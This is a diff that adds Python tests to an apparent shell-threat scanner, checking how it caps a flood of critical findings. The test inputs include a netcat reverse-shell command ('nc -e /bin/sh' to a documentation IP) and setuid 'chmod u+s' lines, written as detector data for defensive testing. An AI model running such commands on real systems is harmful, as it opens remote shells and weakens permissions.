@@ -79,3 +79,30 @@ def test_shell_walk_is_preorder_bounded_and_stays_in_its_subtree() -> None:
         and starts == sorted(starts)
         and len(list(walk(tree.root_node, 3))) == 3
     )
+
+
+def _check(text: str) -> tuple[list[tuple[int, str, int]], dict[str, str]]:
+    from skillscan.analyzers.delivery import DeliveryCatalog
+    from skillscan.analyzers.treesitter.registry import FileContext, SkillContext
+    from skillscan.analyzers.treesitter.shell_threats import ShellThreats
+    from skillscan.models import FileKind, Skill, SkillFile, SkillIdentity
+
+    f = SkillFile(path="run.sh", kind=FileKind.SHELL, data=text.encode(), sha256="0" * 64, text=text)
+    ctx = SkillContext(
+        skill=Skill(source="mem", identity=SkillIdentity(), files=(f,)), catalog=DeliveryCatalog.load()
+    )
+    fctx = FileContext(file=f, skill=ctx)
+    ctx.files = [fctx]
+    return [(h.line or 0, h.rule_id, h.more) for h in ShellThreats().check(fctx)], fctx.shortfalls
+
+
+def test_a_flood_of_critical_hits_stops_once_they_are_listed_and_says_so() -> None:
+    hits, shortfalls = _check("".join(f"nc -e /bin/sh 192.0.2.1 {n}\n" for n in range(1, 3000)))
+    assert hits == [(n, "reverse-shell-netcat", 0) for n in range(1, 21)]
+    assert list(shortfalls) == ["saturated:ShellThreats"]
+
+
+def test_a_flood_of_other_hits_is_read_to_its_end() -> None:
+    hits, shortfalls = _check("".join(f"chmod u+s /opt/x{n}\n" for n in range(1, 301)))
+    assert hits == [(n, "permission-weakening", 280 if n == 20 else 0) for n in range(1, 21)]
+    assert not shortfalls
